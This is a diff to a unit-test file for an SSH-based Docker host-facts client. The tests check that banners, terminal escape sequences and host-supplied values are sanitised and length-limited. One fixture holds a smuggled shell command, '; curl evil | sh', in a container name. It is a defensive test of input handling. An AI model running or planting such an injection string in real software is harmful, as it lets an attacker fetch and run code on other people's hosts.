@@ -16,6 +16,7 @@ from typing import Any
 import pytest
 
 from clients import host_facts
+from clients.foreign import LONGEST
 from clients.host_facts import FreshFacts, HostError, HostFacts, Listener, Obstacle, ask_host
 from clients.ssh import LOGINS
 from tests.unit.host_recordings import DIND, DISK, NODE, RASPBERRY_PI_4, RecordedHost, on_path, recorded_host
@@ -187,6 +188,16 @@ def test_different_ssh_errors_are_distinguished(host: RecordedHost, said: str, o
     assert refused() == (obstacle, said or "the command ended with 255 and printed nothing")
 
 
+def test_a_long_banner_hides_no_ssh_error(host: RecordedHost) -> None:
+    denied = "pi@attic.lan: Permission denied (publickey)."
+    host.says("ssh", f"echo {'Authorized users only. ' * 50} {denied!r} >&2\nexit 255")
+    obstacle, said = refused()
+    assert obstacle is Obstacle.LOGIN
+    assert said.startswith("Authorized users only. ")
+    assert said.endswith(denied)
+    assert len(said) == LONGEST
+
+
 def test_a_key_that_may_only_reach_docker_tells_nothing(host: RecordedHost) -> None:
     """With `command=` in authorized_keys, deploying works, but the script never runs."""
     host.says("ssh", "echo HTTP/1.1 400 Bad Request")
@@ -258,7 +269,7 @@ def test_an_answer_of_another_form_than_dockers_is_the_hosts_fault(host: Recorde
     host.prints("ssh", printed)
     obstacle, said = refused()
     assert obstacle is Obstacle.OTHER_FORM
-    assert len(said) < 300
+    assert len(said) <= LONGEST
     assert said.isprintable()
 
 
@@ -277,13 +288,13 @@ def test_words_of_a_host_are_no_commands_for_a_terminal_or_a_shell(host: Recorde
         RASPBERRY_PI_4,
         ServerVersion="20.10\x1b]0;title\x07" + "x" * 1000,
         Architecture="aarch64\x1b[2J",
-        Driver="vfs\r",
+        Driver="vfs\x07",
     )
     host.prints("ssh", recorded(info=info, containers=altered(NODE, Name="/web; curl evil | sh\x1b[2J")))
     found = ask_host(PI)
     assert (found.machine, found.driver) == ("aarch64?[2J", "vfs?")
     assert found.version.startswith("20.10?]0;title?x")
-    assert len(found.version) < 100
+    assert len(found.version) == LONGEST
     assert [container.name for container in found.containers] == ["web??curl?evil???sh??2J"]
 
 
